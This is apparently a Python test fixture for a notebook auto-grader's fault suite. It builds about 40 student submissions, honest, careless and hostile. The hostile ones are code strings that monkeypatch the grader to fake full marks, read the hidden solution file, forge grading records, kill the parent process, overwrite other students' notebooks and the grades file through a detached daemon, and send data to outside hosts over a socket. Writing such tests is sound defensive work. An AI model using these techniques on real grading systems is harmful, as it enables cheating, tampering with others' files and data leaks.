"""A hostile class and a careless machine: the submissions the fault suite grades (workbook 02).

:func:`make_class` writes at least 40 submissions into a folder and returns, per student id, the
outcomes the grader must give and whether the submission is hostile (a hostile one must never get a
mark it did not earn). Every attack and careless case the issue (#14) saw is here, one submission each.
"""
from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from helpers.checks import grading, markers

ROOT = Path(__file__).resolve().parents[2]
WORKBOOK = ROOT / "exercises" / "02-education-pathways-exercises.ipynb"
OTHER_LESSON = ROOT / "exercises" / "04-medical-terminology-exercises.ipynb"
PROBLEMS = grading.lesson_problems("02")
KEYS = [p.key for p in PROBLEMS]
ALL, NONE = ["correct"] * 5, ["not attempted"] * 5


@dataclass
class Expect:
    """What the grader must say about one student."""

    outcomes: list[str]
    hostile: bool = False
    status: str = ""  # a word the totals' status must contain
    extra: dict[str, str] = field(default_factory=dict)
    unsandboxed: list[str] | None = None  # what happens without the sandbox, where it differs (a known limit)


def solution(p) -> str:
    return markers.strip_markers(p.solution_code)


def notebook(answers: dict[int, str] | None = None, extra: list[tuple[str, str]] = (), drop: tuple = ()):
    """The workbook with answers (by problem number) and extra cells inserted after a cell id."""
    nb = nbformat.read(WORKBOOK, as_version=4)
    cells = {c.id: c for c in nb.cells}
    for number, code in (answers or {}).items():
        cells[f"q{number}-answer"].source = "import pandas as pd\n" + code
    for i, (after, code) in enumerate(extra):
        at = [c.id for c in nb.cells].index(after) + 1
        cell = nbformat.v4.new_code_cell(code)
        cell.id = f"extra{i}"
        nb.cells.insert(at, cell)
    nb.cells = [c for c in nb.cells if c.id not in drop]
    return nb


def correct() -> dict[int, str]:
    return {p.number: solution(p) for p in PROBLEMS}


FAKE_RESULT = ("from helpers.checks.results import CheckResult\n"
               "def _yes(self, *a, **k):\n    return CheckResult(self.label, 'correct', 'well done.')\n")
FORGE = ("import json, os\n"
         "for n, name in enumerate(['part_time', 'rhit_ready_date', 'paths_to_cca', 'certificate_years_part_time', "
         "'answer_5'], 1):\n"
         "    rec = {'lesson': '02', 'problem': f'education-pathways.q{n}', 'name': name, 'kind': KIND, "
         "'outcome': 'correct', 'message': 'well done.'}\n")


def make_class(folder: Path, out: Path, victim: str = "victim", port: int = 9) -> dict[str, Expect]:
    """Write the class into ``folder``; ``out`` is where the grades will go (the attacks aim at it)."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, Expect] = {}

    def put(name: str, nb, expect: Expect) -> None:
        nbformat.write(nb, folder / name)
        expected[Path(name).stem] = expect

    for i in range(12):  # the honest majority: right, partly right, untouched
        put(f"honest{i:02d}.ipynb", notebook(correct() if i % 3 == 0 else {1: solution(PROBLEMS[0])} if i % 3 == 1
                                             else {}),
            Expect(ALL if i % 3 == 0 else ["correct"] + ["not attempted"] * 4 if i % 3 == 1 else NONE))
    put(f"{victim}.ipynb", notebook(correct()), Expect(ALL))
    # -- fake full marks, every way the issue saw (none answers anything) --------------------------
    put("patch_judge.ipynb", notebook(extra=[("setup", FAKE_RESULT + "from helpers.checks.problems import Problem\n"
                                                          "Problem.judge = _yes")]), Expect(NONE, True))
    put("patch_each.ipynb", notebook(extra=[("problems", FAKE_RESULT + "import types\nfor q in (q1, q2, q3, q4, q5):\n"
                                                        "    q.judge = types.MethodType(_yes, q)")]), Expect(NONE, True))
    put("patch_compare.ipynb", notebook(extra=[("setup", "import helpers.checks.compare as c, helpers.checks.problems as p\n"
                                                         "c.compare = p.compare = lambda *a, **k: c.Verdict(True)")],
                                        answers={1: "part_time = 1", 3: "paths_to_cca = []", 5: "answer_5 = 'z'"}),
        Expect(["incorrect", "not attempted", "incorrect", "not attempted", "incorrect"], True))
    put("expected.ipynb", notebook({1: "part_time = q1.expected()", 2: "rhit_ready_date = q2.expected()",
                                    3: "paths_to_cca = q3.expected()", 4: "certificate_years_part_time = q4.expected()",
                                    5: "answer_5 = q5.expected()"}), Expect(NONE, True))
    put("solution_file.ipynb", notebook(extra=[("problems", (
        "import json\nfrom helpers.checks import workbooks\n"
        "answer_5 = ...\n"
        "for cell in json.loads((workbooks.SOURCE_DIR / '02-education-pathways.ipynb').read_text())['cells']:\n"
        "    text = ''.join(cell['source'])\n"
        "    if 'BEGIN SOLUTION' in text and 'answer_5 = \"' in text:\n"
        "        answer_5 = text.split('answer_5 = \"')[1][0]\n"))], drop=("q5-answer",)),
        Expect(NONE, True, unsandboxed=["not attempted"] * 4 + ["correct"]))
    put("forge_exit.ipynb", notebook(extra=[("q1-help", FORGE.replace("KIND", "'check'") +
                                             "    open(os.environ['MRT_GRADING_FILE'], 'a').write(json.dumps(rec) + '\\n')\n"
                                             "os._exit(0)")]), Expect(NONE, True, status="killed the kernel"))
    put("forge_grader.ipynb", notebook(extra=[("q5-help", FORGE.replace("KIND", "'grader'") +
                                               "    open(os.environ['MRT_GRADING_FILE'], 'a').write(json.dumps(rec) + '\\n')")]),
        Expect(NONE, True))
    put("kill_parent.ipynb", notebook(correct(), extra=[("q3-help", "import os\nos.kill(os.getppid(), 9)")]),
        Expect(ALL, True, status="killed the process running the notebook"))
    target = str(folder / f"{victim}.ipynb")
    put("overwrite.ipynb", notebook(extra=[("setup", (
        "import os, glob\n"
        f"targets = [{target!r}]\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        for part in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0'):\n"
        "            if os.path.isdir(part):\n"
        "                targets += glob.glob(os.path.join(part.decode(), '*.ipynb'))\n"
        "    except Exception:\n"
        "        pass\n"
        "for t in targets:\n"
        "    if 'overwrite' not in t:\n"
        "        try:\n"
        "            open(t, 'w').write('{\"cells\": []}')\n"
        "        except Exception:\n"
        "            pass"))]), Expect(NONE, True))
    grades = str(out)
    put("detached.ipynb", notebook(extra=[("setup", (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(2)\n"
        "        for _ in range(120):\n"
        "            try:\n"
        f"                open({grades!r}, 'w').write('student_id,score\\nmallory,100\\n')\n"
        "            except Exception:\n"
        "                pass\n"
        "            time.sleep(0.5)\n"
        "    os._exit(0)"))]), Expect(NONE, True))
    put("network.ipynb", notebook(extra=[("setup", (
        "import socket\n"
        "for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):\n"
        "    try:\n"
        f"        socket.create_connection((host, {port}), timeout=1).sendall(b'leak')\n"
        "    except Exception:\n"
        "        pass"))]), Expect(NONE, True))
    endless = ("    while True:\n        try:\n            while True:\n                pass\n"
               "        except BaseException:\n            pass")
    answers = correct()
    answers[2] = f"def rhit_ready_date(start, part_time=False):\n{endless}"
    put("unstoppable_fn.ipynb", notebook(answers), Expect(["correct", "incorrect", "correct", "correct", "correct"],
                                                         extra={"q2": "longer than"}))
    put("unstoppable_cell.ipynb", notebook(correct(), extra=[("q5-help", "while True:\n    try:\n        while True:\n"
                                                                        "            pass\n    except BaseException:\n"
                                                                        "        pass")]),
        Expect(ALL, status="could not be interrupted"))
    answers = correct()
    answers[3] = "paths_to_cca = ["
    put("syntax.ipynb", notebook(answers), Expect(["correct", "correct", "not attempted", "correct", "correct"]))
    put("huge_output.ipynb", notebook(correct(), extra=[("setup", "for _ in range(200):\n    print('x' * 100_000)")]),
        Expect(ALL))
    put("memory_hog.ipynb", notebook(correct(), extra=[("setup", "hog = bytearray(64 * 1024**3)")]), Expect(ALL))
    put("big_answer.ipynb", notebook({3: "paths_to_cca = list(range(3_000_000))"}),
        Expect(["not attempted", "not attempted", "incorrect", "not attempted", "not attempted"]))
    put("generator.ipynb", notebook({3: "paths_to_cca = (x for x in 'ab')"}),
        Expect(["not attempted", "not attempted", "incorrect", "not attempted", "not attempted"],
               extra={"q3": "generator"}))
    # -- careless machines and file names ------------------------------------------------------------
    latin1 = os.fsdecode(b"Jos\xe9")
    nbformat.write(notebook(correct()), folder / f"{latin1}.ipynb")
    expected["Jos\\xe9"] = Expect(ALL, status="not valid UTF-8")
    put("=1+2.ipynb", notebook(correct()), Expect(ALL))
    put("c22.ipynb", notebook(correct()), Expect(["error"] * 5, status="two submissions"))
    nbformat.write(notebook(), (folder / "c22").mkdir() or folder / "c22" / "02-education-pathways-exercises.ipynb")
    (folder / "c23").mkdir()
    nbformat.write(notebook(correct()), folder / "c23" / "a.ipynb")
    nbformat.write(notebook(), folder / "c23" / "b.ipynb")
    expected["c23"] = Expect(["error"] * 5, status="2 notebooks")
    other = nbformat.read(OTHER_LESSON, as_version=4)
    nbformat.write(other, folder / "wrong_lesson.ipynb")
    expected["wrong_lesson"] = Expect(["error"] * 5, status="lesson 04")
    nbformat.write(notebook(correct()), folder / "upper.IPYNB")
    expected["upper"] = Expect(ALL, status=".IPYNB was read as .ipynb")
    (folder / "essay.docx").write_text("my homework")
    expected["essay"] = Expect(["error"] * 5, status="not a Jupyter notebook")
    (folder / "empty.ipynb").write_text("")
    expected["empty"] = Expect(["error"] * 5, status="empty file")
    (folder / "garbled.ipynb").write_text('{"cells": [')
    expected["garbled"] = Expect(["error"] * 5, status="not a readable notebook")
    (folder / "nothing").mkdir()
    expected["nothing"] = Expect(["error"] * 5, status="no .ipynb")
    (folder / "kinds.json").write_text(json.dumps(sorted(expected)))  # a stray file is a broken submission too
    expected["kinds"] = Expect(["error"] * 5, status="not a Jupyter notebook")
    assert len(expected) >= 40, len(expected)
    return expected
